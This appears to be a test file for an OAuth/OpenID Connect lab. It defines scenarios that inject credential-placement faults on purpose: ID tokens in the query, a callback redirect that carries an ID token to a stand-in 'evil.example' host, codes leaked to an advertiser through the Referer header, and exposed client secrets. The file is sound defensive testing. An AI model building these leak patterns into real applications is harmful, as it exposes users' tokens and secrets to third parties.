/** Codes, tokens and secrets in places where they must not be. */
import { until } from '../../drivers/wait.ts';
import { adsOrigin, evilOrigin } from '../hosts.ts';
import type { Lab, Scenario } from '../model.ts';
import { callbackOf, check, scenario, shows, signIn } from './define.ts';
import { fragmentToQuery, inAnswer, queryToFragment } from './faults.ts';

const leak = { family: 'token-placement', thirdPartyCookies: 'block' } as const;
const works = { ...leak, outcome: 'completed', ends: 'signed-in' } as const;
const breaks = { ...leak, outcome: 'failed', ends: 'error' } as const;

/** A page that tells every site where the visitor comes from, query and all. */
const chatty: NonNullable<Scenario['appFault']> = () => (_req, res) => {
  res.setHeader('Referrer-Policy', 'unsafe-url');
  return false;
};

const advertiserKnows = (lab: Lab) => lab.seen.at('ads.example').some((seen) => /[?&]code=/.test(seen.referer ?? ''));

export const tokenPlacement = [
  scenario({
    ...breaks,
    id: 'token-in-query',
    title: 'ID token in the query',
    story: 'The server writes the ID token behind a `?` instead of the `#`, where servers and histories keep it.',
    headline: 'token-in-query',
    app: { kind: 'server', responseType: 'id_token' },
    fault: { answer: fragmentToQuery },
    proof: (_page, lab) => check(callbackOf(lab, 'token-in-query').target.includes('id_token='), 'The token was not in the query.'),
  }),
  scenario({
    ...breaks,
    id: 'code-in-fragment',
    title: 'Code behind the `#`',
    story: 'The server puts the code behind the `#`, where the app’s server never sees it.',
    headline: 'response-mode-mismatch',
    app: { kind: 'server' },
    fault: { answer: queryToFragment },
    proof: (_page, lab) => check(callbackOf(lab, 'code-in-fragment').target === '/callback', 'The server saw parameters.'),
  }),
  scenario({
    ...breaks,
    id: 'form-post-by-query',
    title: 'Posted answer comes by GET',
    story: 'The app asks for a posted form, a proxy removes `response_mode`, and the answer comes in the query.',
    headline: 'response-mode-mismatch',
    app: { kind: 'server', responseMode: 'form_post', transaction: { sameSite: 'None' } },
    fault: { request: (url) => url.searchParams.delete('response_mode') },
    proof: (_page, lab) => check(callbackOf(lab, 'form-post-by-query').method === 'GET', 'The answer was posted.'),
  }),
  scenario({
    ...leak,
    id: 'fragment-to-stranger',
    title: 'Token carried on to a stranger',
    story: 'The callback redirects to another site without a `#` of its own, and the browser takes the ID token along.',
    headline: 'fragment-carried-over',
    outcome: 'completed',
    app: { kind: 'server', responseType: 'id_token' },
    appFault: (site) => (req, res) => {
      if (req.url !== '/callback') return false;
      res.writeHead(302, { Location: `${evilOrigin(site.ports)}/` }).end();
      return true;
    },
    ends: 'error',
    proof: async (page) => {
      await page.waitForUrl(/evil\.example.*#.*id_token=/);
    },
  }),
  scenario({
    ...works,
    id: 'code-in-referer',
    title: 'Code leaks to an advertiser',
    story:
      'The callback is a page with an advertiser’s pixel and `Referrer-Policy: unsafe-url`: the advertiser receives the code. Firefox only sends the origin to other sites’ images.',
    headline: { chromium: 'credential-in-referer', firefox: null },
    app: {
      kind: 'server',
      landing: 'page',
      callbackPart: (_site, { ports }) => `<img id="pixel" src="${adsOrigin(ports)}/pixel.gif" alt="" width="1" height="1">`,
    },
    appFault: chatty,
    proof: async (page, lab) => {
      await page.waitFor(() => document.querySelector<HTMLImageElement>('#pixel')?.complete ?? false);
      check(advertiserKnows(lab) === (page.browser === 'chromium'), 'What the advertiser saw is not what this browser sends.');
    },
  }),
  scenario({
    ...works,
    id: 'code-in-link',
    title: 'Code leaks with a click',
    story: 'The same page with a link to the advertiser: whoever follows it takes the code along, in both browsers.',
    headline: 'credential-in-referer',
    app: {
      kind: 'server',
      landing: 'page',
      callbackPart: (_site, { ports }) => `<p><a id="sponsor" href="${adsOrigin(ports)}/pixel.gif">Our sponsor</a></p>`,
    },
    appFault: chatty,
    steps: ['Sign in', 'Press “Our sponsor” with Control'],
    drive: async (page) => {
      await signIn(page);
      await page.openLinkInNewTab('#sponsor');
    },
    proof: async (_page, lab) => {
      await until('the advertiser to be asked', async () => lab.seen.at('ads.example').length > 0);
      check(advertiserKnows(lab), 'The advertiser did not see the code.');
    },
  }),
  scenario({
    ...works,
    id: 'secret-in-page',
    title: 'Client secret in the page',
    story: 'The single-page app redeems its code with a client secret that everybody can read.',
    headline: 'client-secret-exposed',
    app: {
      kind: 'spa',
      settings: { client_secret: 'CANARY-client-secret-of-secret-in-page', client_authentication: 'client_secret_post' },
    },
    registration: { authMethod: 'client_secret_post' },
  }),
  scenario({
    ...works,
    id: 'secret-in-address',
    title: 'Client secret in the address',
    story: 'The app adds its client secret to the authorization request, where histories and logs keep it.',
    headline: 'client-secret-exposed',
    app: { kind: 'server', mistake: (url, site) => url.searchParams.set('client_secret', site.secret) },
  }),
  scenario({
    ...works,
    id: 'token-in-call',
    title: 'Access token in the address of a call',
    story: 'The access token comes behind the `#`, and the page calls its API with the token in the query.',
    headline: 'token-in-query',
    app: { kind: 'server', responseType: 'id_token token', api: 'query' },
    proof: (_page, lab) =>
      check(
        lab.seen.at(lab.site('token-in-call').host).some((seen) => seen.target.includes('access_token=')),
        'The API was not called with the token.',
      ),
  }),
  scenario({
    ...breaks,
    id: 'answer-empty',
    family: 'response',
    title: 'Answer without anything',
    story: 'A firewall in front of the provider strips the whole query from the redirect.',
    headline: 'callback-no-result',
    app: { kind: 'server' },
    fault: {
      answer: inAnswer((url) => {
        url.search = '';
      }),
    },
    proof: (page) => shows(page, /refused|waiting|redeemed/),
  }),
];
